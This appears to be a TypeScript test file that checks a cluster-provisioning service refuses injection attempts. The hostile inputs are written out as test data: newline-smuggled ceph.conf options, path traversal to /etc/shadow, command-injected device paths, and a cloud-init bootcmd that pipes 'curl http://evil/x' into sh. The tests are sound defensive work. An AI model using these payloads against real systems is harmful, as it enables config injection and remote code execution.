// Issue #12, findings 2 and 6, replayed over HTTP against a running lab Quarry: values an agent
// reports or a registry's catalog carries that would break out of their line (ceph.conf,
// cloud-init) or move where the S3 proxy sends a caller's signed requests.
import test from 'ava';
import { parseAllDocuments } from 'yaml';
import { ImageKind } from '../../src/model/image-kinds.js';
import { gatewayUrl } from '../../src/services/s3.js';
import { startLab, waitFor, type LabQuarry } from '../lab/harness.js';
import { admin, hardware, readyAgent, type Agent } from '../http/agent-helpers.js';
import { Client } from '../http/client.js';
import { codeOf, type ProblemBody } from '../http/bodies.js';
import { bytesOf, serveImages } from '../helpers/image-server.js';

const HOOK = 'osd_crush_location_hook = /tmp/x';

const nodePhase = async (q: LabQuarry, id: string): Promise<string | undefined> => (await q.nodes()).find((n) => n.id === id)?.status.phase;

/** A hand-driven agent whose node is active with the given report. */
async function activeAgent(q: LabQuarry, n: number, over: Partial<ReturnType<typeof hardware>> = {}): Promise<Agent> {
  const a = await readyAgent(q, n);
  const r = await a.client.post('/node/hardware', { ...hardware(n), ...over });
  if (r.status !== 200) throw new Error(`report: ${r.status} ${codeOf(r.json)}`);
  await waitFor('the node active', async () => (await nodePhase(q, a.nodeId)) === 'active');
  return a;
}

test('attack an agent reporting an ip with a newline to add a ceph.conf option is refused, and ceph.conf is unchanged', async (t) => {
  const q = await startLab(t, 0);
  const a = await activeAgent(q, 1);
  const c = await admin(q);
  const disk = await waitFor('an eligible disk', async () =>
    ((await c.get('/disks')).json as Array<{ id: string; nodeId: string; eligible: boolean }>).find(
      (d) => d.nodeId === a.nodeId && d.eligible,
    ),
  );
  t.is((await c.post('/ceph/mon/create', { nodeId: a.nodeId, diskId: disk.id })).status, 200);
  const conf = async () => Buffer.from((await c.get<{ config: string }>('/ceph/cluster/config')).json.config, 'base64').toString('utf8');
  const before = await waitFor('the monitor in mon_host', async () => {
    const text = await conf();
    return text.includes('mon_host = [v2:192.0.2.1:3300,v1:192.0.2.1:6789]') ? text : undefined;
  });
  const publicBefore = (await new Client(q.url).get('/templates/rendered/ceph.conf')).text;

  for (const ip of [`192.0.2.1\n${HOOK}`, `192.0.2.1,v1:192.0.2.9:6789]\n${HOOK}\n#`, `192.0.2.1\r${HOOK}`]) {
    const r = await a.client.post<ProblemBody>('/node/hardware', { ...hardware(1), ip });
    t.is(r.status, 400, JSON.stringify(ip));
    t.is(r.json.code, 'VALIDATION_FAILED');
    t.true(
      r.json.errors.some((e) => e.path === '/body/ip'),
      JSON.stringify(r.json.errors),
    );
    const nic = await a.client.post('/node/hardware', { ...hardware(1), nics: [{ ...hardware(1).nics[0]!, ip }] });
    t.is(nic.status, 400, `nic ${JSON.stringify(ip)}`);
  }
  // Refused at the door: the master's observation still holds the last good report.
  t.is(q.fleet.observe(a.nodeId).report?.ip, '192.0.2.1');
  t.is((await q.nodes()).find((n) => n.id === a.nodeId)?.status.ip, '192.0.2.1');
  const after = await conf();
  t.is(after, before);
  t.false(after.includes('osd_crush_location_hook'));
  t.is((await new Client(q.url).get('/templates/rendered/ceph.conf')).text, publicBefore);
});

test('attack an agent reporting hostile hardware fields (device path, hostname, NIC name, serial) is refused', async (t) => {
  const q = await startLab(t, 0);
  const a = await activeAgent(q, 2);
  const good = hardware(2);
  const disk0 = good.disks[0]!;
  const nic0 = good.nics[0]!;
  for (const [what, body, field] of [
    ['a device path out of /dev', { ...good, disks: [{ ...disk0, devicePath: '/dev/../etc/shadow' }] }, '/body/disks/0/devicePath'],
    ['a device path with a command', { ...good, disks: [{ ...disk0, devicePath: '/dev/sda;reboot' }] }, '/body/disks/0/devicePath'],
    ['a serial with a newline', { ...good, disks: [{ ...disk0, serial: 'S1\nbootcmd: x' }] }, '/body/disks/0/serial'],
    ['a hostname with a newline', { ...good, hostname: 'node\nbootcmd: x' }, '/body/hostname'],
    ['a NIC name with a slash', { ...good, nics: [{ ...nic0, name: 'eth0/../x' }] }, '/body/nics/0/name'],
    ['5,000 disks', { ...good, disks: Array.from({ length: 5_000 }, () => disk0) }, '/body/disks'],
  ] as const) {
    const r = await a.client.post<ProblemBody>('/node/hardware', body);
    t.is(r.status, 400, what);
    t.is(r.json.code, 'VALIDATION_FAILED', what);
    t.true(
      r.json.errors.some((e) => e.path === field),
      `${what}: ${JSON.stringify(r.json.errors).slice(0, 300)}`,
    );
  }
  t.deepEqual(q.fleet.observe(a.nodeId).report, good, 'nothing changed');
});

test('attack a registry catalog with a newline in an image name to add bootcmd to cloud-init is refused', async (t) => {
  const ID = '7c1d5e2a-3b4f-4a6c-8d9e-0f1a2b3c4d5e';
  const server = await serveImages(t, [
    {
      id: ID,
      name: 'debian-12',
      files: [
        { name: 'vmlinuz', content: bytesOf('k', 64) },
        { name: 'initrd.img', content: bytesOf('i', 64) },
      ],
    },
  ]);
  const catalog = JSON.parse(await (await fetch(server.url)).text()) as Array<Record<string, unknown>>;
  server.catalogBody = JSON.stringify(
    catalog.map((e) => ({ ...e, name: 'debian-12\nbootcmd:\n  - [ sh, -c, "curl http://evil/x | sh" ]' })),
  );
  const q = await startLab(t, 0, { env: { IMAGE_REGISTRY: server.url } });
  const c = await admin(q);
  const offered = await c.get<ProblemBody>('/images/available');
  t.is(offered.status, 503);
  t.is(offered.json.code, 'REGISTRY_INVALID');
  t.regex(offered.json.detail, new RegExp(`/0/name \\(entry ${ID}\\)`));
  const wanted = await c.get(`/images/${ID}/download`);
  t.is(wanted.status, 503);
  t.is(await q.store.get(ImageKind.Image, ID), undefined, 'no image was declared');

  const mac = '02:00:00:00:bb:01';
  t.is((await new Client(q.url).get(`/boot/config?mac=${mac}`)).status, 200);
  const userData = await new Client(q.url).get(`/templates/rendered/cloud-init?mac=${mac}`);
  t.is(userData.status, 200);
  const docs = [...parseAllDocuments(userData.text, { version: '1.1' })];
  t.is(docs.length, 1);
  t.deepEqual(docs[0]!.errors, []);
  const parsed = docs[0]!.toJS() as Record<string, unknown>;
  t.false('bootcmd' in parsed);
  t.false(userData.text.includes('evil'));
});

test('attack an agent reporting an ip that points the S3 proxy elsewhere does not move the gateway URL', async (t) => {
  const q = await startLab(t, 0);
  const claim = { ...hardware(3), ip: '203.0.113.9', daemons: { mon: false, mgr: false, mds: false, rgw: true, osds: [] } };
  const a = await activeAgent(q, 3, claim);
  const c = await admin(q);
  t.is((await c.post('/gateways/rgw/deploy', { nodeId: a.nodeId })).status, 200);
  // A path or a host:port in the address never gets in.
  for (const ip of ['127.0.0.1:9000/steal?', 'evil.example', '203.0.113.9/#']) {
    const r = await a.client.post('/node/hardware', {
      ...hardware(3),
      ip,
      daemons: { mon: false, mgr: false, mds: false, rgw: true, osds: [] },
    });
    t.is(r.status, 400, ip);
  }
  // The agent's claim (203.0.113.9) is shown as its address, but the proxy goes where the master
  // saw the agent's connection come from: loopback, in the lab.
  // The hand-driven agent beats its heart while we look, as a real one would.
  const hostname = (await q.nodes()).find((n) => n.id === a.nodeId)!.spec.hostname;
  const gw = await waitFor('the gateway serving', async () => {
    await a.client.post('/node/hardware', claim);
    return (await q.s3.service.gateways()).find((g) => g.hostname === hostname);
  });
  t.is((await q.nodes()).find((n) => n.id === a.nodeId)?.status.ip, '203.0.113.9');
  t.is(gw.ip, '127.0.0.1');
  t.is(gatewayUrl(gw), 'http://127.0.0.1:7480');
});
